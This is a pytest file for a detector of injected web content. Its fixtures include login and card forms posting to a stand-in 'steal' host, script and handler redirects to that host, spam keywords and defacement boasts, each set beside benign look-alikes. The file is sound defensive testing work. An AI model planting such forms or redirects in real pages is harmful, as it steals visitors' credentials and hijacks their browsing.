"""Pages that send visitors away, ask for their passwords, or boast of a break-in; and their look-alikes."""

from __future__ import annotations

import pytest

from tests.pace import within
from tests.parsers.injected.pages import found, markup

EVIL = "https://elsewhere.example.net/"
LOGIN = "<input name=user><input type=password name=pass>"


def signals(html: str) -> set[str]:
    return {signal for finding in found(html)[0] for signal in finding.signals}


@pytest.mark.parametrize(
    "form",
    [
        f'<form action="{EVIL}steal">{LOGIN}</form>',
        f'<form action="//elsewhere.example.net/">{LOGIN}</form>',
        f'<form action="/login/">{LOGIN}<button formaction="{EVIL}">Log in</button></form>',
        f'<form action="{EVIL}"><input autocomplete="cc-number"><input name=cvv></form>',
    ],
)
def test_a_form_that_sends_secrets_abroad(form: str) -> None:
    (finding,) = found(markup(form))[0]
    assert (finding.kind, finding.severity) == ("injected_content", "high")
    assert finding.url is not None
    assert "elsewhere.example.net" in finding.url


@pytest.mark.parametrize(
    "form",
    [
        f'<form action="/login/">{LOGIN}</form>',
        f'<form action="https://members.towns.example.org/">{LOGIN}</form>',
        f'<form action="https://www.linkedin.com/login">{LOGIN}</form>',
        f'<form action="https://login.university.edu/">{LOGIN}</form>',
        '<form action="https://towns.us1.list-manage.com/subscribe"><input type=email></form>',
        f'<form action="{EVIL}search"><input name=q></form>',
        f'<p><a href="{EVIL}">Members log in at our partner</a></p><form action="{EVIL}">{LOGIN}</form>',
        '<form action="mailto:office@towns.example.org"><input type=password></form>',
        '<form action="https://[broken"><input type=password></form>',
    ],
)
def test_honest_forms(form: str) -> None:
    assert found(markup(form))[0] == ()


@pytest.mark.parametrize(
    "code",
    [
        f'window.location="{EVIL}"',
        f"window.location.href = '{EVIL}';",
        f'location.replace("{EVIL}")',
        f"top.location.assign( '{EVIL}' )",
        f'document.location = "{EVIL}"',
        'self.location="//elsewhere.example.net/"',
        f"setTimeout(function(){{ window.location = '{EVIL}' }}, 500);",
        f"(function(){{ if (document.referrer) {{ location.href='{EVIL}' }} }})();",
        f"function go(){{ location.href='{EVIL}' }} go();",
        f"!function go(){{ location.href='{EVIL}' }}();",
        f"$(document).ready(function(){{ if (a == 1) {{ location.href='{EVIL}' }} }});",
        f"document.addEventListener('click', function(){{ location.href='{EVIL}' }});",
        f"window.onload = function () {{ window.location = '{EVIL}' }};",
        r'location.href="https:\/\/elsewhere.example.net\/"',
    ],
)
def test_a_script_that_sends_visitors_away(code: str) -> None:
    assert "redirect by a script" in signals(markup(f"<script>{code}</script>"))
    assert "redirect by a script" in signals(markup(head=f"<script>{code}</script>"))


@pytest.mark.parametrize(
    "inside",
    [
        f"<body onload=\"location='{EVIL}'\">",
        f"<p onclick=\"location='{EVIL}'\">Towns meet here.</p>",
        f"<a href='/about/' onclick=\"window.location.href='{EVIL}'\">About us</a>",
        f"<img src='x.png' onerror=\"location='{EVIL}'\">",
    ],
)
def test_a_handler_that_sends_visitors_away(inside: str) -> None:
    html = markup(inside) if "<body" not in inside else markup().replace("<body>", inside)
    assert "redirect by a script" in signals(html)


@pytest.mark.parametrize(
    "inside",
    [
        '<script>window.location="https://www.towns.example.org/en/"</script>',
        '<script>location.href = "/en/";</script>',
        '<script>location = "https://www.youtube.com/@towns"</script>',
        f'<script>// window.location = "{EVIL}"</script>',
        f'<script>/* window.location = "{EVIL}" */</script>',
        f'<script>var location = "{EVIL}"; place.location = "{EVIL}";</script>',
        f'<script>if (window.location == "{EVIL}") {{ show() }}</script>',
        f'<script type="application/ld+json">{{"location": "{EVIL}"}}</script>',
        f"<script>$('#donate').on('click', function(){{ window.location.href = '{EVIL}' }});</script>",
        f"<script>button.onclick = function(){{ window.location.href = '{EVIL}' }};</script>",
        f"<script>button.addEventListener('click', () => {{ location.href = '{EVIL}' }})</script>",
        f"<script>document.addEventListener('wpcf7mailsent', function(e){{ location = '{EVIL}' }})</script>",
        f"<script>function register(){{ window.location = '{EVIL}' }}</script>",
        f"<script>const register = () => {{ window.location = '{EVIL}' }};</script>",
        f"<script>var shop = {{ leave(to) {{ window.location = '{EVIL}' }} }};</script>",
        f"<button onclick=\"location.href='{EVIL}'\">Register</button>",
        f"<div class=card onclick=\"location.href='{EVIL}'\">Our partner</div>",
        f"<a href='#' onclick=\"location.href='{EVIL}'\">Partner</a>",
        f"<p><a href='{EVIL}'>We have moved</a></p><script>window.location='{EVIL}'</script>",
    ],
)
def test_honest_scripts(inside: str) -> None:
    assert found(markup(inside))[0] == ()


@pytest.mark.parametrize(
    "element",
    [
        '<img src="/a.jpg" alt="casino online bonus free spins judi slot">',
        '<img src="/a.jpg" title="buy cheap viagra cialis online without prescription">',
        '<a href="/about/" title="situs slot gacor judi online terpercaya">About us</a>',
    ],
)
def test_spam_in_attributes(element: str) -> None:
    (finding,) = found(markup(element))[0]
    assert "lexicon" in finding.signals


@pytest.mark.parametrize(
    "element",
    [
        '<img src="/a.jpg" alt="The casino of Altstadt, now a library">',
        '<img src="/a.jpg" alt="Pharmacies collect unused medicines online">',
        '<img src="/a.jpg" alt="Report: how online casinos and sports betting harm cities">',
    ],
)
def test_honest_attributes(element: str) -> None:
    assert found(markup(element))[0] == ()


@pytest.mark.parametrize(
    "boast",
    [
        "<h1>Hacked by XyzTeam</h1>",
        "<p>Hacked by XyzTeam</p>",
        "<p>HACKED BY GH0ST SQUAD!</p>",
        "<center>This site was hacked by Turk_Cyber</center>",
        "<h1>Owned by XyzTeam</h1>",
        "<div>~ Defaced by Anonymous ~</div>",
        "<h1>XyzTeam was here</h1>",
        "<h2>Pwned by l33t crew</h2>",
        "<p>Hackeado por LosPiratas</p>",
    ],
)
def test_a_defaced_page(boast: str) -> None:
    (finding,) = found(markup(boast))[0]
    assert (finding.severity, finding.signals[0]) == ("high", "boast of a break-in")


def test_a_page_with_nothing_but_a_boast() -> None:
    html = "<html><head><title>Hacked by Turk</title></head><body><h1>Hacked by Turk</h1></body></html>"
    assert "boast of a break-in" in signals(html)


@pytest.mark.parametrize(
    "line",
    [
        "<p>Owned by: the municipality</p>",
        "<p>Owned by RheinEnergie</p>",
        "<h1>Owned by the people</h1>",
        "<h1>Our team was here</h1>",
        "<p>Goethe was here</p>",
        "<h2>Hacked by students</h2>",
        "<p>The city was hacked by a gang last year and tells how it recovered its services.</p>",
        "<h1>City of Altstadt hacked by ransomware gang</h1>",
    ],
)
def test_honest_lines_about_hackers_and_owners(line: str) -> None:
    assert found(markup(line))[0] == ()


def test_scripts_of_many_redirects_take_no_time() -> None:
    code = f"function a(){{ location.href='{EVIL}' }} {{{{" * 7_000
    html = markup(f"<script>{code}</script>" + "<p>" + "was here " * 50_000 + "</p>")
    with within(3):
        found(html)
